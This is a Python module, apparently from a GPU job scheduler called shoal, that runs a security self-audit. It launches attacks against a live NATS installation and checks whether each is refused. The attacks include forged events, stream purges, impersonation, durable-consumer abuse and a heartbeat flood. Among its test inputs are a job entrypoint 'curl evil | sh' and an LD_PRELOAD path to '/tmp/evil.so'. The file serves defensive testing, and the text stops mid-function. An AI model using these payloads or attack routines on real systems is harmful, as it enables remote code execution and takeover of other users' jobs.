"""A security self-audit: the attacks of issue 20, run against a live installation.

Each attack is what someone who can reach the NATS port would try with plain nats-py
(nothing of shoal's client code): forge events, purge the log, delete a lease, act
as another user, read another identity's replies, run a command of their choosing.
:func:`run_audit` runs every attack, each on a connection of its own, and reports
whether the server (or admission) **refused** it or the installation **accepted** it,
judged by what happened, not by what was expected: a forged event counts as accepted
when the log grew, a purge when the log shrank. It also runs the legitimate path (a
user submits and cancels their own job; admission answers) so that a lock that
refuses everything fails the audit too.

``benchmarks/security.py`` runs it against ``shoal up`` and writes
``benchmarks/reports/security.md``; ``tests/test_security.py`` asserts that every
attack is refused and the legitimate path works.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Awaitable, Callable
from typing import Any

import msgspec
import nats
import nats.errors
import nats.js.errors

from shoal import codec
from shoal import events as ev
from shoal.auth import ADMIN_TOKEN, CALLOUT_SUBJECT, inbox_prefix, name_of_creds


class Outcome(msgspec.Struct, frozen=True, kw_only=True):
    attack: str
    identity: str
    """Who tried it: ``(none)`` for no credentials, else the identity's name."""
    refused: bool
    how: str
    """How it was refused (the server's or admission's words) or what it changed."""


class Target(msgspec.Struct, frozen=True, kw_only=True):
    """The installation under audit and the credentials the attacks use."""

    url: str
    prefix: str
    admin: str
    """The admin's seed file: to observe the log (never to attack)."""
    user: str
    """A client identity's seed file (the attacker ``mallory``)."""
    victim: str
    """Another registered user, whose job the attacker goes after."""
    node: str
    """A node identity's seed file (a node that impersonates another)."""
    mqtt_port: int | None = None
    mqtt_user: str = ""
    mqtt_password: str = ""
    creds_dir: str = ""
    """The installation's credentials directory: the audit plays a compromised sidecar
    with what its node daemon would give it (a token signed with ``sidecar-<node>.nk``
    when the server runs the auth callout, else that seed itself). Empty: no sidecar
    attacks."""
    revoke_wait_s: float = 45.0
    """How long a sidecar whose job ended may stay connected before the audit counts it
    as accepted: the installation's ``SHOAL_SIDECAR_REVOKE_AFTER_S`` (30 s by default)
    and the authorizer's sweeps (every 5 s), with room to spare."""


class _Conn:
    """A plain nats-py connection that records the server's permission errors."""

    def __init__(self) -> None:
        self.nc: Any = None
        self.errors: list[str] = []

    @classmethod
    async def open(cls, url: str, creds: str | None) -> _Conn:
        """Connect with a seed file, or with ``token:<sidecar token>`` (:mod:`shoal.callout`)."""
        self = cls()

        async def on_error(exc: Exception) -> None:
            self.errors.append(str(exc))

        kw: dict[str, Any] = {}
        if creds and creds.startswith("token:"):
            from shoal.callout import sidecar_inbox, token_grant

            token = creds.removeprefix("token:")
            kw = {"token": token, "inbox_prefix": sidecar_inbox(token_grant(token))}
        elif creds:
            kw = {"nkeys_seed": creds, "inbox_prefix": inbox_prefix(name_of_creds(creds))}
        self.nc = await nats.connect(
            url, error_cb=on_error, allow_reconnect=False, connect_timeout=2, max_reconnect_attempts=0, **kw
        )
        return self

    async def violation(self, timeout_s: float = 2.0) -> str | None:
        """The first permissions violation the server reported, waiting up to ``timeout_s``."""
        with contextlib.suppress(Exception):
            await self.nc.flush(timeout=timeout_s)
        for _ in range(int(timeout_s / 0.05)):
            hits = [e for e in self.errors if "permissions violation" in e.lower()]
            if hits:
                return hits[0].removeprefix("nats: ")
            await asyncio.sleep(0.05)
        return None

    async def close(self) -> None:
        with contextlib.suppress(Exception):
            await self.nc.close()


async def _log_size(t: Target, subjects: str | None = None) -> tuple[int, int]:
    """(messages, last sequence) of the event log, read as the admin; with ``subjects``
    (a filter), the messages on matching subjects instead of all (the installation's
    own heartbeats and progress keep the log growing while the audit runs)."""
    conn = await _Conn.open(t.url, t.admin)
    try:
        js = conn.nc.jetstream()
        stream = f"{_token(t.prefix)}_EVENTS"
        if subjects is None:
            info = await js.stream_info(stream)
            return int(info.state.messages), int(info.state.last_seq)
        info = await js.stream_info(stream, subjects_filter=subjects)
        return sum((info.state.subjects or {}).values()), 0
    finally:
        await conn.close()


def _token(prefix: str) -> str:
    from shoal.bus import Names

    return Names(prefix).events_stream.removesuffix("_EVENTS")


async def _forge(
    t: Target, creds: str | None, event: ev.Event, subject: str | None = None
) -> tuple[bool, str]:
    """Publish ``event`` as-is on ``subject`` (default: its own subject); refused unless
    a reader of the log takes that very envelope (by its id), as the services read it
    (:meth:`shoal.bus.Bus.replay_batches`: an event on a subject not its own is stored
    but skipped as ``wrong_subject``). The services keep appending to shared subjects
    meanwhile (the placer to ``alloc.placement_decided``), so a count would mistake
    theirs."""
    from shoal.bus import Bus

    subject = subject or codec_subject(t.prefix, event)
    env = codec.wrap(event)
    _, before = await _log_size(t)
    conn = await _Conn.open(t.url, creds)
    try:
        await conn.nc.publish(subject, codec.encode(env))
        why = await conn.violation()
    finally:
        await conn.close()
    skipped = ""
    async with await Bus.connect(t.url, t.prefix, creds=t.admin, declare=False) as admin:
        async for batch in admin.replay_batches(start_seq=before + 1, filter_subjects=[subject]):
            if any(e.id == env.id for _, e in batch):
                return False, f"appended to {subject}"
            for s in batch.skipped:
                if s.code == "wrong_subject" and not skipped:
                    skipped = f"stored on {subject}, skipped by every reader as {s.code}: {s.reason}"
    return True, why or skipped or "not appended"


async def _forge_beat(t: Target, creds: str, node_id: str) -> tuple[bool, str]:
    """Store a heartbeat of ``node_id`` in the beats stream (one stamped at 0, which
    would make that node look silent); refused unless that very envelope is the newest
    message on the node's beat subject afterwards."""
    from shoal.bus import Names

    names = Names(t.prefix)
    subject = names.beat(node_id)
    env = codec.wrap(ev.NodeHeartbeat(node_id=node_id, seq=10**9), at=0.0)
    why, stored = await _publish_and_read_back(t, creds, subject, codec.encode(env), names.beats_stream)
    if stored is None:
        return True, why or "nothing stored"
    if codec.decode(stored).id == env.id:
        return False, "stored in the beats stream"
    return True, why or "not stored"


async def _heartbeat_flood(t: Target, creds: str, count: int = 200_000) -> tuple[bool, str]:
    """``count`` heartbeats of the node's own id (valid envelopes, stamped now), as fast as
    plain nats-py sends them, on its own subject of the beats stream: issue 20's flood.
    Accepted when the beats stream wrote more than :data:`shoal.bus.BEATS_PER_NODE`
    heartbeats a second per node while it went on (every node's counted: the stream's
    sequence). Afterwards, waits until the node's own daemon's heartbeats are stored
    again (the flood may have had it declared lost; it registers again by itself)."""
    import time

    from shoal.bus import BEATS_PER_NODE, Names

    names = Names(t.prefix)
    node_id = name_of_creds(creds).removeprefix("node-")
    subject = names.beat(node_id)
    admin = await _Conn.open(t.url, t.admin)
    js = admin.nc.jetstream()
    try:
        info = await js.stream_info(names.beats_stream, subjects_filter=f"{names.prefix}.beat.*")
        nodes = max(1, len(info.state.subjects or {}))
        before, started = int(info.state.last_seq), time.monotonic()
        conn = await _Conn.open(t.url, creds)
        try:
            for i in range(count):
                env = codec.wrap(ev.NodeHeartbeat(node_id=node_id, seq=FLOOD_SEQ + i))
                await conn.nc.publish(subject, codec.encode(env))
                if i % 1000 == 0:
                    await asyncio.sleep(0)
            await conn.nc.flush(timeout=30)
            why = await conn.violation(timeout_s=0.5)
        finally:
            await conn.close()
        await asyncio.sleep(1.0)  # what the server still had queued
        elapsed = time.monotonic() - started
        written = int((await js.stream_info(names.beats_stream)).state.last_seq) - before
        bound = BEATS_PER_NODE * nodes * (elapsed + 1)
        how = (
            f"{written} heartbeats written in {elapsed:.1f}s while {count:,} were sent "
            f"({nodes} nodes, at most {BEATS_PER_NODE} per node a second; the rest refused: "
            "maximum messages per subject exceeded)"
        )
        if why:
            how = why
        # The node's daemon gets its heartbeats in again once the flood's have expired.
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            with contextlib.suppress(nats.js.errors.NotFoundError):
                msg = await js.get_last_msg(names.beats_stream, subject)
                event = codec.decode(msg.data or b"").event
                if isinstance(event, ev.NodeHeartbeat) and event.seq < FLOOD_SEQ:
                    break
            await asyncio.sleep(0.25)
        else:
            how += "; the node's own heartbeats were not stored again within 30 s"
        return written <= bound, how
    finally:
        await admin.close()


FLOOD_SEQ = 10**9
"""Sequence numbers of the flood's heartbeats start here (a daemon's count from 1)."""


async def _publish_and_read_back(
    t: Target, creds: str, subject: str, data: bytes, stream: str
) -> tuple[str | None, bytes | None]:
    """Publish ``data`` on ``subject`` as ``creds``: (the server's permission violation,
    if any; the newest message of ``subject`` in ``stream`` afterwards, read as the
    admin, or None when there is none)."""
    conn = await _Conn.open(t.url, creds)
    try:
        await conn.nc.publish(subject, data)
        why = await conn.violation()
    finally:
        await conn.close()
    admin = await _Conn.open(t.url, t.admin)
    try:
        msg = await admin.nc.jetstream().get_last_msg(stream, subject)
    except nats.js.errors.NotFoundError:
        return why, None
    finally:
        await admin.close()
    return why, msg.data or b""


def codec_subject(prefix: str, event: ev.Event) -> str:
    return ev.subject_for(event, prefix)


async def _js_api(t: Target, creds: str, subject: str, body: bytes = b"") -> tuple[bool, str]:
    """Send a JetStream API request; refused unless it was answered without error and
    the log lost messages."""
    before = await _log_size(t)
    conn = await _Conn.open(t.url, creds)
    answer = ""
    try:
        try:
            msg = await conn.nc.request(subject, body, timeout=2)
            answer = msg.data.decode(errors="replace")
        except (nats.errors.TimeoutError, nats.errors.NoRespondersError, TimeoutError):
            pass
        why = await conn.violation(0.5)
    finally:
        await conn.close()
    after = await _log_size(t)
    if after[0] < before[0]:
        return False, f"log shrank from {before[0]} to {after[0]} messages"
    if why:
        return True, why
    if '"error"' in answer:
        with contextlib.suppress(ValueError):
            return True, str(json.loads(answer).get("error", {}).get("description", answer[:120]))
        return True, answer[:120]
    return (not answer), answer[:120] or "no answer"


async def _command(
    t: Target, creds: str, command: str, sender: str, body: dict[str, Any]
) -> tuple[bool, str]:
    """A command on ``cmd.<command>.<sender>``: refused by the server or by admission,
    unless the event it would cause landed in the log."""
    caused = {
        "submit_job": "job.*.submitted",
        "cancel_job": "job.*.cancelled",
        "set_tickets": "user.*.>",
        "set_user_limits": "user.*.>",
    }
    watch = f"{t.prefix}.{caused[command]}"
    before = await _log_size(t, watch)
    conn = await _Conn.open(t.url, creds)
    try:
        try:
            msg = await conn.nc.request(
                f"{t.prefix}.cmd.{command}.{sender}",
                json.dumps(body).encode(),
                timeout=3,
                headers={"Content-Type": "application/json"},
            )
            reply = json.loads(msg.data)
        except (nats.errors.TimeoutError, nats.errors.NoRespondersError, TimeoutError):
            reply = None
        why = await conn.violation(0.5)
    finally:
        await conn.close()
    after = await _log_size(t, watch)
    if after[0] != before[0]:
        return False, f"accepted: {reply}"
    if reply is not None and reply.get("type") == "reply.rejected":
        return True, f"admission: {reply['code']}"
    return True, why or "no answer"


async def _subscribe(t: Target, creds: str, subject: str) -> tuple[bool, str]:
    conn = await _Conn.open(t.url, creds)
    try:
        await conn.nc.subscribe(subject)
        why = await conn.violation()
    finally:
        await conn.close()
    return (why is not None), why or "subscribed"


async def _no_credentials(t: Target) -> tuple[bool, str]:
    try:
        conn = await _Conn.open(t.url, None)
    except Exception as exc:
        return True, f"connection refused: {exc or type(exc).__name__}"
    await conn.close()
    return False, "connected without credentials"


async def _mqtt_other_topic(t: Target) -> tuple[bool, str]:
    """An MQTT device of ``mqtt_user`` submits on the victim's topic."""
    import aiomqtt

    watch = f"{t.prefix}.job.*.submitted"
    before = await _log_size(t, watch)
    topic = f"{t.prefix.replace('.', '/')}/mqtt/submit/{t.victim}"
    payload = json.dumps({"model": "resnet50", "total_iterations": 10, "job_id": "audit-mqtt"})
    note = ""
    try:
        async with aiomqtt.Client(
            "127.0.0.1",
            t.mqtt_port or 0,
            username=t.mqtt_user,
            password=t.mqtt_password,
            protocol=aiomqtt.ProtocolVersion.V311,
        ) as mq:
            await asyncio.wait_for(mq.publish(topic, payload, qos=1), 3)
    except Exception as exc:  # the server drops the device on a denied publish
        note = f"device disconnected: {type(exc).__name__}"
    await asyncio.sleep(1.0)
    after = await _log_size(t, watch)
    if after[0] != before[0]:
        return False, "job written for the victim"
    return True, note or "not published"


Attack = tuple[str, str, Callable[[Target], Awaitable[tuple[bool, str]]]]

SIDECAR_JOB = "audit-sidecar-job"
"""The job whose sidecar the audit plays (submitted by :func:`run_audit`)."""

ENDED_JOB = "audit-ended-job"
"""The job whose sidecar stays connected after the job ended (submitted by
:func:`run_audit`, cancelled by :func:`_sidecar_outlives_its_job`)."""


def _callout_on(t: Target) -> bool:
    from pathlib import Path

    from shoal.auth import ISSUER

    return bool(t.creds_dir) and (Path(t.creds_dir) / f"{ISSUER}.nk").exists()


def _sidecar_creds(t: Target, job_id: str, node_id: str, *, key_of: str | None = None) -> str:
    """What the node daemon of ``node_id`` gives the sidecar of ``job_id``: a token
    signed with its ``sidecar-<node>`` seed (``key_of``: another node's seed) under the
    auth callout, else the seed file itself."""
    from pathlib import Path

    from shoal import callout as co

    seed = Path(t.creds_dir) / f"sidecar-{key_of or node_id}.nk"
    if not _callout_on(t):
        return str(seed)
    grant = co.SidecarGrant(job_id=job_id, node_id=node_id)
    return "token:" + co.mint_sidecar_token(co.keypair(seed.read_bytes()), grant)


async def _placed_nodes(t: Target, job_id: str, timeout_s: float = 30.0) -> set[str]:
    """The nodes ``job_id`` is placed on, once it is (read as the admin)."""
    from shoal.client import Client

    async with await Client.connect(t.url, t.prefix, creds=t.admin, timeout_s=2.0) as admin:
        for _ in range(int(timeout_s / 0.25)):
            job = await admin.status(job_id)
            if job.placement:
                return {g.node_id for g in job.placement}
            await asyncio.sleep(0.25)
    raise RuntimeError(f"{job_id} was not placed within {timeout_s}s")


def _sidecar_nodes(t: Target) -> list[str]:
    from shoal.auth import CredentialStore

    return sorted(CredentialStore(t.creds_dir).sidecar_keys())


async def _sidecar_forge(t: Target, event: ev.Event, subject: str | None = None) -> tuple[bool, str]:
    """The sidecar of :data:`SIDECAR_JOB` (on a node it runs on) forges ``event`` (on
    ``subject``, default its own)."""
    node = sorted(await _placed_nodes(t, SIDECAR_JOB))[0]
    try:
        creds = _sidecar_creds(t, SIDECAR_JOB, node)
        return await _forge(t, creds, event, subject)
    except nats.errors.Error as exc:
        return False, f"audit error: the sidecar could not connect: {exc}"


async def _sidecar_lease(t: Target, job_id: str) -> tuple[bool, str]:
    """The sidecar of :data:`SIDECAR_JOB` writes ``job_id``'s leader lease key; refused
    unless its value is the newest of that key afterwards."""
    node = sorted(await _placed_nodes(t, SIDECAR_JOB))[0]
    bucket = f"{_token(t.prefix)}_LEASES"
    subject = f"$KV.{bucket}.train.{job_id}"
    value = f"audit-{SIDECAR_JOB}".encode()
    why, stored = await _publish_and_read_back(
        t, _sidecar_creds(t, SIDECAR_JOB, node), subject, value, f"KV_{bucket}"
    )
    if stored is None:
        return True, why or "nothing stored"
    if stored == value:
        return False, f"stored under {subject}"
    return True, why or "not stored"


async def _create_capturing_stream(t: Target, creds: str) -> tuple[bool, str]:
    """Create a stream that captures admission's command subjects (a request there would
    be answered by the stream's ack, and the commands kept for the attacker to read);
    refused unless the stream exists afterwards (the admin then deletes it)."""
    name = "AUDIT_CAPTURE"
    body = json.dumps({"name": name, "subjects": [f"{t.prefix}.cmd.>"], "storage": "memory"}).encode()
    _, why = await _js_api(t, creds, f"$JS.API.STREAM.CREATE.{name}", body)
    admin = await _Conn.open(t.url, t.admin)
    try:
        js = admin.nc.jetstream()
        try:
            await js.stream_info(name)
        except nats.js.errors.NotFoundError:
            return True, why
        await js.delete_stream(name)
        return False, f"created stream {name} on {t.prefix}.cmd.>"
    finally:
        await admin.close()


async def _durable_consumer(t: Target, creds: str) -> tuple[bool, str]:
    """Keep a durable consumer on the event stream, through each API form (named create,
    unnamed create with a durable name, the legacy durable create); refused unless one
    exists afterwards (the admin then deletes it)."""
    stream = f"{_token(t.prefix)}_EVENTS"
    name = "audit-durable"
    durable = {"durable_name": name, "ack_policy": "none", "deliver_policy": "new"}
    forms = [
        (f"$JS.API.CONSUMER.CREATE.{stream}.{name}", {**durable, "name": name}),
        (f"$JS.API.CONSUMER.CREATE.{stream}", durable),
        (f"$JS.API.CONSUMER.DURABLE.CREATE.{stream}.{name}", durable),
    ]
    whys = []
    for subject, config in forms:
        _, why = await _js_api(
            t, creds, subject, json.dumps({"stream_name": stream, "config": config}).encode()
        )
        whys.append(why)
        admin = await _Conn.open(t.url, t.admin)
        try:
            js = admin.nc.jetstream()
            try:
                await js.consumer_info(stream, name)
            except nats.js.errors.NotFoundError:
                continue
            await js.delete_consumer(stream, name)
            return False, f"durable consumer {name} created through {subject}"
        finally:
            await admin.close()
    return True, "; ".join(whys)


async def _lingering_consumer(t: Target, creds: str) -> tuple[bool, str]:
    """Keep an ephemeral consumer on each of the event, control, beats and dead-letter
    streams for a day after its last pull (the unnamed create every reader may use);
    refused unless one exists afterwards with a threshold past the streams' bound
    (the admin then deletes it)."""
    from shoal.bus import READER_MAX_INACTIVE_S

    token = _token(t.prefix)
    whys = []
    for stream in (f"{token}_EVENTS", f"{token}_CTL", f"{token}_BEATS", f"{token}_DLQ"):
        config = {"ack_policy": "none", "deliver_policy": "new", "inactive_threshold": 86400 * 10**9}
        _, why = await _js_api(
            t,
            creds,
            f"$JS.API.CONSUMER.CREATE.{stream}",
            json.dumps({"stream_name": stream, "config": config}).encode(),
        )
        whys.append(f"{stream}: {why}")
        admin = await _Conn.open(t.url, t.admin)
        try:
            js = admin.nc.jetstream()
            for info in await js.consumers_info(stream):
                if (info.config.inactive_threshold or 0) > READER_MAX_INACTIVE_S:
                    await js.delete_consumer(stream, info.name)
                    return (
                        False,
                        f"consumer {info.name} on {stream} kept for {info.config.inactive_threshold:g} s",
                    )
        finally:
            await admin.close()
    return True, "; ".join(whys)


async def _delete_consumer(t: Target, creds: str) -> tuple[bool, str]:
    """Delete another identity's consumer (one the admin made for the audit, as a
    service's replay consumer is); refused unless it is gone afterwards."""
    from nats.js import api

    stream = f"{_token(t.prefix)}_EVENTS"
    admin = await _Conn.open(t.url, t.admin)
    try:
        js = admin.nc.jetstream()
        info = await js.add_consumer(
            stream, api.ConsumerConfig(ack_policy=api.AckPolicy.NONE, inactive_threshold=120.0)
        )
        _, why = await _js_api(t, creds, f"$JS.API.CONSUMER.DELETE.{stream}.{info.name}")
        try:
            await js.consumer_info(stream, info.name)
        except nats.js.errors.NotFoundError:
            return False, f"deleted consumer {info.name}"
        await js.delete_consumer(stream, info.name)
        return True, why
    finally:
        await admin.close()


async def _as_sidecar(
    t: Target, attack: Callable[[Target, str], Awaitable[tuple[bool, str]]]
) -> tuple[bool, str]:
    """``attack`` with the credentials of the sidecar of :data:`SIDECAR_JOB`."""
    node = sorted(await _placed_nodes(t, SIDECAR_JOB))[0]
    return await attack(t, _sidecar_creds(t, SIDECAR_JOB, node))


async def _sidecar_connect(
    t: Target, job_id: str, node_id: str, key_of: str | None = None
) -> tuple[bool, str]:
    """Connect as the sidecar of ``job_id`` on ``node_id``; refused unless admitted."""
    if not _callout_on(t):
        return False, "no auth callout: a node's sidecar identity serves every job"
    try:
        conn = await _Conn.open(t.url, _sidecar_creds(t, job_id, node_id, key_of=key_of))
    except Exception as exc:
        return True, f"connection refused: {exc or type(exc).__name__}"
    await conn.close()
    return False, f"connected as the sidecar of {job_id} on {node_id}"


async def _sidecar_outlives_its_job(t: Target) -> tuple[bool, str]:
    """The sidecar of :data:`ENDED_JOB`, admitted while the job runs, stays connected
    after the job is cancelled; refused when the server ends its connection within
    ``t.revoke_wait_s`` and does not let it back in."""
    import time

    from shoal.client import Client

    if not _callout_on(t):
        return False, "no auth callout: a node's sidecar identity serves every job"
    node = sorted(await _placed_nodes(t, ENDED_JOB))[0]
    creds = _sidecar_creds(t, ENDED_JOB, node)
    conn = await _Conn.open(t.url, creds)
    try:
        async with await Client.connect(t.url, t.prefix, creds=t.admin, timeout_s=2.0) as admin:
            await admin.cancel(ENDED_JOB, reason="audit: the sidecar outlives its job")
        start = time.monotonic()
        while conn.nc.is_connected:
            if time.monotonic() - start > t.revoke_wait_s:
                return False, f"still connected {t.revoke_wait_s:.0f}s after its job was cancelled"
            await asyncio.sleep(0.25)
        ended = time.monotonic() - start
    finally:
        await conn.close()
    try:
        again = await _Conn.open(t.url, creds)
    except Exception:
        return True, f"connection ended {ended:.0f}s after its job was cancelled; reconnecting refused"
    await again.close()
    return False, f"connection ended after {ended:.0f}s, but the same token connected again"


async def _token_for_unplaced(t: Target) -> tuple[bool, str]:
    """A node's own key signs a token for the victim's job, which runs elsewhere."""
    if not _callout_on(t):
        return False, "no auth callout: a node's sidecar identity serves every job"
    placed = await _placed_nodes(t, "victim-job")
    free = [n for n in _sidecar_nodes(t) if n not in placed]
    if not free:
        return False, "audit error: the victim's job runs on every node"
    return await _sidecar_connect(t, "victim-job", free[0])


async def _token_signed_by_another_node(t: Target) -> tuple[bool, str]:
    """Node A's key signs a token naming node B (where the victim's job runs)."""
    if not _callout_on(t):
        return False, "no auth callout: a node's sidecar identity serves every job"
    placed = sorted(await _placed_nodes(t, "victim-job"))
    others = [n for n in _sidecar_nodes(t) if n != placed[0]]
    if not others:
        return False, "audit error: one node only"
    return await _sidecar_connect(t, "victim-job", placed[0], key_of=others[0])


def attacks(t: Target) -> list[Attack]:
    """(name, identity, run) of every attack, in the issue's order."""
    user, node = name_of_creds(t.user), name_of_creds(t.node)
    ev_prefix = _token(t.prefix)
    lease_bucket = f"{ev_prefix}_LEASES"
    h100 = tuple(ev.GpuInfo(index=i, gpu_type="H100") for i in range(64))
    out: list[Attack] = [
        ("connect without credentials", "(none)", _no_credentials),
        (
            "forged JobCompleted for another user's job",
            user,
            lambda t: _forge(t, t.user, ev.JobCompleted(job_id="victim-job")),
        ),
        (
            "forged SharesDecided giving one user every GPU",
            user,
            lambda t: _forge(t, t.user, ev.SharesDecided(epoch=10**6, shares={"mallory-job": 16})),
        ),
        (
            "forged PlacementDecided",
            user,
            lambda t: _forge(t, t.user, ev.PlacementDecided(epoch=10**6, placements={})),
        ),
        (
            "forged NodeRegistered with 64 H100s",
            user,
            lambda t: _forge(t, t.user, ev.NodeRegistered(node_id="fake-node", gpus=h100)),
        ),
        (
            "node registers another node",
            node,
            lambda t: _forge(t, t.node, ev.NodeRegistered(node_id="fake-node", gpus=h100)),
        ),
        (
            "node heartbeats for another node",
            node,
            lambda t: _forge(t, t.node, ev.NodeHeartbeat(node_id="other-node")),
        ),
        (
            "node heartbeats for another node in the beats stream",
            node,
            lambda t: _forge_beat(t, t.node, "other-node"),
        ),
        (
            "node appends a SharesDecided on its own registration subject",
            node,
            lambda t: _forge(
                t,
                t.node,
                ev.SharesDecided(epoch=10**6, shares={"mallory-job": 16}),
                f"{t.prefix}.node.{node.removeprefix('node-')}.registered",
            ),
        ),
        (
            "node registers another node on its own registration subject",
            node,
            lambda t: _forge(
                t,
                t.node,
                ev.NodeRegistered(node_id="fake-node", gpus=h100),
                f"{t.prefix}.node.{node.removeprefix('node-')}.registered",
            ),
        ),
        ("forged JobCancelled", user, lambda t: _forge(t, t.user, ev.JobCancelled(job_id="victim-job"))),
        (
            "forged TicketsSet (10^9 tickets)",
            user,
            lambda t: _forge(t, t.user, ev.TicketsSet(user=user.removeprefix("user-"), tickets=10**9)),
        ),
        ("forged NodeLost", user, lambda t: _forge(t, t.user, ev.NodeLost(node_id="node0"))),
        (
            "purge the event stream",
            user,
            lambda t: _js_api(t, t.user, f"$JS.API.STREAM.PURGE.{ev_prefix}_EVENTS", b"{}"),
        ),
        (
            "delete the event stream",
            user,
            lambda t: _js_api(t, t.user, f"$JS.API.STREAM.DELETE.{ev_prefix}_EVENTS"),
        ),
        (
            "node purges the event stream",
            node,
            lambda t: _js_api(t, t.node, f"$JS.API.STREAM.PURGE.{ev_prefix}_EVENTS", b"{}"),
        ),
        (
            "delete the allocator's leader lease",
            user,
            lambda t: _js_api(t, t.user, f"$KV.{lease_bucket}.allocator", b""),
        ),
        (
            "submit as another user (their command subject)",
            user,
            lambda t: _command(t, t.user, "submit_job", t.victim, _submit_body(t.victim)),
        ),
        (
            "submit a job naming another user",
            user,
            lambda t: _command(t, t.user, "submit_job", user.removeprefix("user-"), _submit_body(t.victim)),
        ),
        (
            "act as the admin (@admin)",
            user,
            lambda t: _command(
                t, t.user, "set_tickets", ADMIN_TOKEN, {"type": "cmd.set_tickets", "user": "x", "tickets": 1}
            ),
        ),
        (
            "cancel another user's job",
            user,
            lambda t: _command(
                t,
                t.user,
                "cancel_job",
                user.removeprefix("user-"),
                {"type": "cmd.cancel_job", "job_id": "victim-job"},
            ),
        ),
        (
            "set own tickets",
            user,
            lambda t: _command(
                t,
                t.user,
                "set_tickets",
                user.removeprefix("user-"),
                {"type": "cmd.set_tickets", "user": user.removeprefix("user-"), "tickets": 10**9},
            ),
        ),
        (
            "lift own quota",
            user,
            lambda t: _command(
                t,
                t.user,
                "set_user_limits",
                user.removeprefix("user-"),
                {"type": "cmd.set_user_limits", "user": user.removeprefix("user-"), "max_active_jobs": 10**6},
            ),
        ),
        (
            "run an arbitrary command (entrypoint) on every GPU node",
            user,
            lambda t: _command(
                t,
                t.user,
                "submit_job",
                user.removeprefix("user-"),
                _submit_body(user.removeprefix("user-"), entrypoint=["sh", "-c", "curl evil | sh"]),
            ),
        ),
        (
            "inject code through the job's environment (LD_PRELOAD)",
            user,
            lambda t: _command(
                t,
                t.user,
                "submit_job",
                user.removeprefix("user-"),
                _submit_body(user.removeprefix("user-"), env={"LD_PRELOAD": "/tmp/evil.so"}),
            ),
        ),
        ("intercept admission's requests", user, lambda t: _subscribe(t, t.user, f"{t.prefix}.cmd.>")),
        (
            "capture admission's requests in a new stream",
            user,
            lambda t: _create_capturing_stream(t, t.user),
        ),
        ("keep a durable consumer on the event stream", user, lambda t: _durable_consumer(t, t.user)),
        ("delete another identity's consumer", user, lambda t: _delete_consumer(t, t.user)),
        (
            "keep a reader's consumer for a day after its last pull",
            user,
            lambda t: _lingering_consumer(t, t.user),
        ),
        ("read other identities' replies", user, lambda t: _subscribe(t, t.user, "_INBOX.>")),
    ]
    if t.mqtt_port:
        out.append(("MQTT device submits on another user's topic", t.mqtt_user, _mqtt_other_topic))
    if t.creds_dir:
        sidecar = f"sidecar of {SIDECAR_JOB}"
        out += [
            (
                "sidecar reports progress for another job",
                sidecar,
                lambda t: _sidecar_forge(t, ev.ProgressReported(job_id="victim-job", iteration=10**9)),
            ),
            (
                "sidecar completes another job (forged JobCompleted)",
                sidecar,
                lambda t: _sidecar_forge(t, ev.JobCompleted(job_id="victim-job")),
            ),
            (
                "sidecar completes another job on its own job's progress subject",
                sidecar,
                lambda t: _sidecar_forge(
                    t, ev.JobCompleted(job_id="victim-job"), f"{t.prefix}.job.{SIDECAR_JOB}.progress"
                ),
            ),
            ("sidecar takes another job's leader lease", sidecar, lambda t: _sidecar_lease(t, "victim-job")),
            (
                "sidecar captures admission's requests in a new stream",
                sidecar,
                lambda t: _as_sidecar(t, _create_capturing_stream),
            ),
            (
                "sidecar deletes another identity's consumer",
                sidecar,
                lambda t: _as_sidecar(t, _delete_consumer),
            ),
            ("sidecar keeps a durable consumer", sidecar, lambda t: _as_sidecar(t, _durable_consumer)),
            (
                "placer appends a SharesDecided (only the allocator may)",
                "placer",
                lambda t: _forge(
                    t, f"{t.creds_dir}/placer.nk", ev.SharesDecided(epoch=10**6, shares={"mallory-job": 16})
                ),
            ),
            (
                "allocator appends a PlacementDecided (only the placer may)",
                "allocator",
                lambda t: _forge(
                    t, f"{t.creds_dir}/allocator.nk", ev.PlacementDecided(epoch=10**6, placements={})
                ),
            ),
            (
                "profiler completes a job",
                "profiler",
                lambda t: _forge(t, f"{t.creds_dir}/profiler.nk", ev.JobCompleted(job_id="victim-job")),
            ),
            (
                "service (allocator) captures admission's requests in a new stream",
                "allocator",
                lambda t: _create_capturing_stream(t, f"{t.creds_dir}/allocator.nk"),
            ),
            (
                "node signs a sidecar token for a job not placed on it",
                "a node's sidecar key",
                _token_for_unplaced,
            ),
            (
                "node signs a sidecar token naming another node",
                "a node's sidecar key",
                _token_signed_by_another_node,
            ),
            (
                "read the auth callout's requests (sidecar tokens)",
                user,
                lambda t: _subscribe(t, t.user, CALLOUT_SUBJECT),
            ),
            (
                "sidecar stays connected after its job ended",
                f"sidecar of {ENDED_JOB}",
                _sidecar_outlives_its_job,
            ),
        ]
    # Last: it may have node0 declared lost for a few seconds (it waits until node0's own
    # heartbeats are stored again).
    out.append(
        (
            "node floods its own heartbeats (200,000)",
            node,
            lambda t: _heartbeat_flood(t, t.node),
        )
    )
    return out


def _submit_body(user: str, **spec: Any) -> dict[str, Any]:
    return {
        "type": "cmd.submit_job",
        "spec": {"user": user, "model": "resnet50", "max_gpus": 1, "total_iterations": 10, **spec},
    }


async def legitimate_path(t: Target) -> tuple[bool, str]:
    """A user submits their own job and cancels it; the node daemon's heartbeats and
    the admin's reads keep working; with ``creds_dir``, the sidecar of
    :data:`SIDECAR_JOB` (started by its node daemon) reports its progress. True when all
    of it did."""
    from shoal.client import Client

    async with await Client.connect(t.url, t.prefix, creds=t.user) as client:
        job = await client.submit({"model": "resnet50", "max_gpus": 1, "total_iterations": 10**6})
        reply = await client.cancel(job, reason="audit")
        status = (await client.status(job)).status
        ok = not reply.duplicate and status == "cancelled"
        how = f"submitted {job} as {client.user}, cancelled: {status}"
        if t.creds_dir:
            iteration = 0
            for _ in range(120):  # its sidecar reports every fraction of a second
                iteration = (await client.status(SIDECAR_JOB)).iteration
                if iteration > 0:
                    break
                await asyncio.sleep(0.25)
            ok = ok and iteration > 0
            how += f"; the sidecar of {SIDECAR_JOB} reported iteration {iteration}"
    return ok, how


async def run_audit(t: Target) -> tuple[list[Outcome], tuple[bool, str]]:
    """The victim's job ``victim-job`` (submitted as the admin), every attack of
    :func:`attacks`, then the legitimate path."""
    from shoal.client import Client, NoAdmissionError

    async with await Client.connect(t.url, t.prefix, creds=t.admin, timeout_s=2.0) as admin:
        victim = {"user": t.victim, "model": "resnet50", "max_gpus": 1, "total_iterations": 10**6}
